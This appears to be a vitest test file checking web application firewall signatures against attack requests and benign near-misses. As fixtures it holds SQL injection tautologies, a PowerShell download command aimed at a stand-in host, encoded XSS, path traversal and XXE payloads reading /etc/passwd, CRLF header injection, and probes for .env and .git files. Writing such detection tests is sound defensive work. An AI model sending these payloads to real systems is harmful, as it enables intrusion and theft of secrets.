/**
 * Three older generic rules narrowed after they fired on generated benign traffic (seed 7): each keeps
 * its attack and stays quiet on the benign value that tripped it.
 * - 9000105 (quote, boolean operator, comparison): JavaScript's `===` is no SQL comparison.
 * - 9000304 (PowerShell with an execution flag): `@powershell` is a batch or npm-script line, whose `@`
 *   turns off the echo; an injected command has no echo to turn off.
 * - 9000702 (template expression with arithmetic): the expression stays on one line and never crosses a
 *   backtick (a JavaScript template literal or a Markdown code span closes there).
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { fileURLToPath } from 'node:url';
import { loadRuleSet } from '../../src/signatures/load-rule-set.js';
import type { CompiledSignatureGate } from '../../src/signatures/compile/compile-rules.js';
import type { RequestSpec } from './fixtures.js';
import { buildInspection, inspectRequest } from './fixtures.js';

const RULES = fileURLToPath(new URL('../../signatures/warden.rules', import.meta.url));
const BROWSER: Array<[string, string]> = [
  ['Host', 'shop.example.com'],
  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'],
];
const json = (body: string): RequestSpec => ({ method: 'POST', url: '/api/items', headers: [...BROWSER, ['Content-Type', 'application/json']], body });
const form = (body: string): RequestSpec => ({ method: 'POST', url: '/submit', headers: [...BROWSER, ['Content-Type', 'application/x-www-form-urlencoded']], body });

let gate: CompiledSignatureGate;
beforeAll(async () => {
  gate = (await loadRuleSet([RULES])).gate;
});
const sids = (spec: RequestSpec): number[] => gate.evaluate(buildInspection({ headers: BROWSER, ...spec })).hits.map((h) => h.sid);

// [sid, what, attack, benign value that fired before]
const CASES: Array<[number, string, RequestSpec, RequestSpec]> = [
  [9000105, 'a quoted tautology in JSON', json(`{"q":"x' OR 'a'='a"}`), json(`{"text":"function myTrustFn(address, hop) {\\n  return address === '1.2.3.4' && hop === 0\\n}"}`)],
  [9000105, 'a quoted tautology with == in a form', form('q=x%27+or+%27a%27%3D%3D%27a'), form('code=if+(s+%3D%3D%3D+%27a%27+%26%26+n+%3D%3D%3D+1)')],
  [9000304, 'PowerShell after an escaped line break in JSON', json('{"next":"\\npowershell -ExecutionPolicy Bypass -c \\"iwr http://x.test\\""}'), json(`{"body":"\\"windowsDebug\\": \\"@powershell -Command $env:DEBUG='*';node app.js\\""}`)],
  [9000304, 'PowerShell by its full path', form('x=%26%26C%3A%5CWindows%5CSystem32%5CWindowsPowerShell%5Cv1.0%5Cpowershell.exe+-nop+-c+whoami'), form('script=%40powershell+-NoProfile+-File+build.ps1')],
  [9000702, 'template arithmetic in a form', form('name=%7B%7B7*7%7D%7D'), json('{"readme":"the string `${` is not eligible for brace expansion.\\n\\n```\\nms(2 * 60000)  // \\"2m\\"\\n```"}')],
  [9000702, 'a dollar-brace probe in JSON', json('{"name":"${7*7}"}'), json('{"code":"const s = `${a}` + `${b}`; const n = 2 * 3;"}')],
];

/** The two tests of a narrowed rule's cases: it fires on the attack, and stays quiet on the benign value. */
function describeNarrowed(title: string, cases: ReadonlyArray<[number, string, RequestSpec, RequestSpec]>): void {
  describe(title, () => {
    it.each(cases.map(([sid, what, attack]) => [`${sid} ${what}`, sid, attack] as const))('%s: fires', (_n, sid, attack) => {
      expect(sids(attack)).toContain(sid);
    });

    it.each(cases.map(([sid, what, , benign]) => [`${sid} ${what}`, sid, benign] as const))('%s: quiet on the benign value', (_n, sid, benign) => {
      expect(sids(benign)).not.toContain(sid);
    });
  });
}

describeNarrowed('narrowed generic rules (9000105, 9000304, 9000702)', CASES);

/**
 * 9001204 rev 2 (overlong UTF-8 or %u spelling in the raw URI): `%u` spelling an ASCII character or an
 * overlong two-byte form, which no encoder writes. Latin-1 letters in `%u00XX` (.NET's UrlEncodeUnicode,
 * legacy pages) and a Latin-1 `À`/`Á` before an encoded space or comma (`escape()` of "À PARTIR") are
 * ordinary text; rev 1 made them protocol anomalies, and with the inspector's own finding they blocked.
 */
const uri = (url: string): RequestSpec => ({ url });
const ENCODING_ABUSE: Array<[string, RequestSpec, RequestSpec]> = [
  ['%u spelling a tag', uri('/search?q=%u003cscript%u003ealert(1)'), uri('/search?q=%u00e9t%u00e9%20%u00e0%20Paris')],
  ['%u spelling a traversal', uri('/download?file=%u002e%u002e%u2215etc%u2215passwd'), uri('/search?name=Jos%E9%20Mar%EDa%20%u00d1%u00fa%u00f1ez')],
  ['an overlong dot and slash', uri('/download?file=..%c0%af..%c0%afetc%c0%afpasswd'), uri('/search?q=%C0%20PARTIR%20DE%20MARS')],
  ['an overlong dot spelled for a lenient decoder', uri('/static/%c0%2e%c0%2e/%c0%2e%c0%2e/etc/passwd'), uri('/search?q=%C1LVAREZ%2C%20%C1NGEL')],
];

describe('encoding abuse in the raw URI (9001204 rev 2)', () => {
  it.each(ENCODING_ABUSE)('%s: fires', (_what, attack) => {
    expect(sids(attack)).toContain(9001204);
  });

  it.each(ENCODING_ABUSE.map(([what, , benign]) => [what, benign] as const))('%s: quiet on legacy-encoded text', (_what, benign) => {
    expect(sids(benign)).not.toContain(9001204);
  });
});

/**
 * 9001202 rev 2 (a line break in the raw URI) and 9000603 rev 2 (a DTD in the URI), narrowed when the
 * error-reports family joined (2026-12-05): an `onerror` beacon sends a multi-line stack in its query,
 * and the commonest fetch error quotes the page it got instead of JSON (`"<!DOCTYPE "... is not valid
 * JSON`). A line break now needs a header-shaped name and colon after it, a blank line then markup, or
 * to be a whole value (HFS's `n=%0A`); a DTD needs a name and an internal subset or an external id.
 */
const LINE_BREAK_AND_DTD: Array<[number, string, RequestSpec, RequestSpec]> = [
  [9001202, 'a line break then a custom header', uri('/r?next=%2F%0d%0aX-Injected:%201'), uri('/log/js-error?stack=TypeError%3A%20x%0A%20%20%20%20at%20handle%20(%2Fapp%2Fa.js%3A1%3A2)')],
  [9001202, 'a value that is only a line break', uri('/files/?n=%0A&search=x'), uri('/search?note=line+one%0D%0Aline+two%0D%0A&x=1')],
  [9001202, 'a blank line then markup', uri('/p?x=1%0d%0a%0d%0a%3Chtml%3E'), uri('/p?text=Caused+by%3A+timeout%0A%0Aretrying')],
  [9000603, 'a DTD with an external entity', uri('/x?xml=%3C!DOCTYPE%20r%20%5B%3C!ENTITY%20e%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E'), uri('/log?msg=Unexpected%20token%20%27%3C%27%2C%20%22%3C!DOCTYPE%20%22...%20is%20not%20valid%20JSON')],
];

describeNarrowed('line breaks and DTDs in the URI (9001202 rev 2, 9000603 rev 2)', LINE_BREAK_AND_DTD);

/**
 * The file-probe rules (9000403, 9000409, 9001401, 9001402, 9001404, 9001405, 9001406; 2026-12-05) do not fire after a code
 * forge's view route (`/o/r/blob/<ref>/`, `/-/raw/<ref>/`, `/src/branch/<ref>/`, `/edit/<ref>/`) or contents
 * API (`/repos/o/r/contents/`, `/repository/files/`): there
 * the path names a file the forge shows from a repository, not one the web server serves. A traversal
 * through such a route is normalized away first (`/o/r/blob/x/../../../.env` is `/.env`).
 */
const FORGE_VIEWS: Array<[number, RequestSpec, RequestSpec]> = [
  [9001406, uri('/.env'), uri('/acme/infra/blob/main/.env.example')],
  [9001406, uri('/app/docker-compose.yml'), uri('/ops/deploy/src/branch/main/docker-compose.yml')],
  [9001405, uri('/config/database.yml'), uri('/acme/shop/-/raw/v1.2.0/config/database.yml')],
  [9001402, uri('/backup/db.sql'), uri('/jdoe/api/blame/feature/checkout-62/db/schema.sql')],
  [9000403, uri('/download?f=/etc/passwd'), uri('/acme/rootfs/tree/main/etc/crontab')],
  [9000409, uri('/static/x/etc/shadow'), uri('/acme/rootfs/blob/3f2a9c1/etc/shadow')],
  [9001406, uri('/acme/infra/blob/main/../../../.env'), uri('/acme/infra/commits/main/.gitlab-ci.yml')],
  [9001406, uri('/api/.env'), uri('/api/v3/repos/jdoe/dotfiles/contents/.env.example?ref=main')],
  [9001405, uri('/app/config/database.yml'), uri('/api/v4/projects/302/repository/files/config%2Fdatabase.yml?ref=main')],
  [9001401, uri('/.htaccess'), uri('/acme/website/blame/branch/master/public/.htaccess')],
  [9001404, uri('/.git/config'), uri('/acme/infra/-/blob/main/.env.local')],
  // rev 3: a dot-named segment holding a wildcard is an index pattern (a data stream's backing indices), not a file.
  [9001406, uri('/.bash_history'), uri('/_cat/indices/.ds-logs-*')],
];

// Through the real inspector, which resolves dot segments as the server will.
const inspectedSids = (spec: RequestSpec): number[] => gate.evaluate(inspectRequest({ headers: BROWSER, ...spec })).hits.map((h) => h.sid);

describe('file probes and code-forge views (2026-12-05)', () => {
  it.each(FORGE_VIEWS.map(([sid, attack]) => [sid, attack.url ?? ''] as const))('%s fires on the probe %s', (sid, url) => {
    expect(inspectedSids(uri(url))).toContain(sid);
  });

  it.each(FORGE_VIEWS.map(([sid, , benign]) => [sid, benign.url ?? ''] as const))('%s is quiet on the forge view %s', (sid, url) => {
    expect(inspectedSids(uri(url))).not.toContain(sid);
  });
});

/**
 * 9000116/9000117: a number followed by a quoteless SQL boolean tail with a truth constant (`OR 1`,
 * `XOR 1`, `AND 0`, `|| true`) or by `DIV n`, as the whole value: the numeric-context probe that needs
 * no quote to break out. A person's `1 or 2` or `5 and 1 more` is not it.
 */
const q = (query: string): RequestSpec => ({ url: `/items?${query}` });
const NUMERIC_TAIL: Array<[number, string, RequestSpec, RequestSpec]> = [
  [9000116, 'OR 1 in a query value', q('id=2130+Or+1&sort=asc'), q('guests=1+or+2')],
  [9000116, 'DIV 0 with a comment in a query value', q('data=4689%20div%200--'), q('q=divide+10+by+2')],
  [9000117, 'OR 1 as a JSON value', json('{"page":"9255 or 1"}'), json('{"answer":"2 or 3"}')],
  [9000117, 'XOR 1 across encoded line breaks in a form', form('file=8965%0axOR%0A1&submit=1'), form('note=5+and+1+more')],
  [9000183, 'DIV 0 and a hash comment in a form', form('file=8998+div+0%23&submit=1'), form('q=1+or+0+results%3F')],
];

describe('numeric-context SQL tails (9000116, 9000117)', () => {
  it.each(NUMERIC_TAIL.map(([sid, what, attack]) => [`${sid} ${what}`, sid, attack] as const))('%s: blocks', (_n, sid, attack) => {
    expect(gate.evaluate(buildInspection({ headers: BROWSER, ...attack })).hits.map((h) => [h.sid, h.effect])).toContainEqual([sid, 'block']);
  });

  it.each(NUMERIC_TAIL.map(([sid, what, , benign]) => [`${sid} ${what}`, sid, benign] as const))('%s: quiet on the near miss', (_n, sid, benign) => {
    expect(sids(benign)).not.toContain(sid);
  });
});

/**
 * 9001405 rev 2: a backup-named file (dump, backup, db, www, site…) with a copy or archive suffix in
 * the request path, also behind a `_`, `#` or `~` prefix (`/_dump.tmp`, `/%23dump.orig`, `/backup.1`,
 * `/dump_backup`), and the phpMyAdmin setup script itself.
 */
const BACKUP_PROBES: Array<[string, string]> = [
  ['/config/backup.1', '/api/v1.1/status'],
  ['/_dump.tmp', '/docs/dump-truck.html'],
  ['/api/%23dump.orig', '/api/orders/dump?format=csv'],
  ['/app/dump_backup', '/app/backup'],
  ['/static/_site.rar', '/static/site.css'],
  ['/www/phpmyadmin/setup/index.php', '/docs/phpmyadmin/setup-guide.html'],
];

describe('backup and dump probes in the path (9001405 rev 2)', () => {
  it.each(BACKUP_PROBES)('blocks %s, passes %s', (probe, benign) => {
    expect(gate.evaluate(buildInspection({ url: probe, headers: BROWSER })).hits.map((h) => [h.sid, h.effect])).toContainEqual([9001405, 'block']);
    expect(sids({ url: benign })).not.toContain(9001405);
  });
});
